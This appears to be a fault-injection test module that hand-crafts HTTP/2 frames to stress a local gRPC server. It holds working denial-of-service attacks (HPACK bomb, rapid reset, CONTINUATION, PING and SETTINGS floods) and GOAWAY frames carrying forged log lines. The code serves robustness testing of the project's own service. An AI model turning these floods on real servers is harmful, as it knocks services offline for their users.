"""HTTP/2 frames of our own making, for attacks on the gRPC port that no library would send.

`python -m tests.faults.http2 PORT ATTACK SECONDS CONNECTIONS` sends one of `ATTACKS`.
"""

from __future__ import annotations

import contextlib
import itertools
import socket
import sys
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 0, 1, 3, 4, 6, 7, 9
END_STREAM, END_HEADERS = 1, 4
INFER = b"/inference.GRPCInferenceService/ModelInfer"
BATCH = 64
"""Calls in one send."""


def frame(kind, flags=0, stream=0, content=b""):
    head = len(content).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big")
    return head + content


def literal(name, text, first=0):
    """A header field; with `first` 0x40 it enters the dynamic table."""
    assert len(name) < 127, "bug: longer than one byte says"
    size, rest = bytes((min(len(text), 127),)), len(text) - 127
    while rest >= 0:  # an integer with a prefix of seven bits (RFC 7541, 5.1)
        size += bytes((rest % 128 + 128 * (rest >= 128),))
        rest = rest // 128 if rest >= 128 else -1
    return bytes((first, len(name))) + name + size + text


def call_headers(path=INFER, extra=b""):
    """A header block that begins a call."""
    lines = {b":method": b"POST", b":scheme": b"http", b":path": path, b":authority": b"a"}
    lines |= {b"content-type": b"application/grpc", b"te": b"trailers"}
    return b"".join(literal(*line) for line in lines.items()) + extra


OPENING = PREFACE + frame(SETTINGS)


def _calls(block, end=b""):
    """Batches of calls of `block`, each followed by a frame of kind and content `end`, if any."""
    streams = itertools.count(3, 2)
    while True:
        parts = []
        for stream in itertools.islice(streams, BATCH):
            parts.append(frame(HEADERS, END_HEADERS, stream, block))
            if end:
                parts.append(frame(end[0], 0, stream, end[1:]))
        yield b"".join(parts)


def small_headers(count):
    """Calls that send nothing but `count` small headers each."""
    return lambda: _calls(call_headers(extra=literal(b"a", b"") * count))


def hpack_bomb():
    """Calls with a header of 3 KB in the dynamic table that 1,200 bytes refer to."""
    large = literal(b"a", bytes(b"x" * 3000), 0x40)
    yield frame(HEADERS, END_HEADERS, 1, call_headers(extra=large))
    yield from _calls(call_headers(extra=b"\xbe" * 1200))


def rapid_reset():
    """Calls that end at once."""
    return _calls(call_headers(), bytes((RST_STREAM, 0, 0, 0, 8)))


def open_streams():
    """100 calls that send nothing, then nothing."""
    yield b"".join(
        frame(HEADERS, END_HEADERS, stream, call_headers(extra=literal(b"a", b"") * 400))
        for stream in range(1, 201, 2)
    )


def goaway():
    """GOAWAY frames with a text."""
    text = b"\n2026-11-24 forged line " * 300
    while True:
        yield frame(GOAWAY, 0, 0, bytes(8) + text) * BATCH


def pings():
    while True:
        yield frame(PING, 0, 0, bytes(8)) * 1000


def settings():
    while True:
        yield frame(SETTINGS, 0, 0, b"\0\4\0\1\0\0") * 1000


def continuations():
    yield frame(HEADERS, 0, 1, call_headers())
    while True:
        yield frame(CONTINUATION, 0, 1, literal(b"a", b"") * 4000)


ATTACKS = {
    "headers-150": small_headers(150),
    "headers-400": small_headers(400),
    "headers-1200": small_headers(1200),
    "hpack": hpack_bomb,
    "reset": rapid_reset,
    "open": open_streams,
    "goaway": goaway,
    "ping": pings,
    "settings": settings,
    "continuation": continuations,
}


def attack(port, kind, until_s, sent, reads=True):
    """Send on one connection after another until `until_s`, in `time.monotonic()`."""
    while time.monotonic() < until_s:
        with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", port), 5) as one:
            one.settimeout(5)
            drain = threading.Thread(target=_read, args=(one,)) if reads else None
            if drain:
                drain.start()
            try:
                one.sendall(OPENING)
                for data in ATTACKS[kind]():
                    one.sendall(data)
                    sent[0] += len(data)
                    if time.monotonic() > until_s:
                        break
                else:
                    time.sleep(max(0, until_s - time.monotonic()))
            finally:
                with contextlib.suppress(OSError):
                    one.shutdown(socket.SHUT_RDWR)
                if drain:
                    drain.join()
        sent[1] += 1


def _read(connection):
    with contextlib.suppress(OSError):
        while connection.recv(1 << 16):
            pass


if __name__ == "__main__":
    port, kind, seconds, connections = sys.argv[1:5]
    sent = [0, 0]
    until_s = time.monotonic() + float(seconds)
    threads = [
        threading.Thread(target=attack, args=(int(port), kind, until_s, sent, sys.argv[5:] == []))
        for _ in range(int(connections))
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    print(f"{sent[0]} bytes sent on {sent[1]} connections")
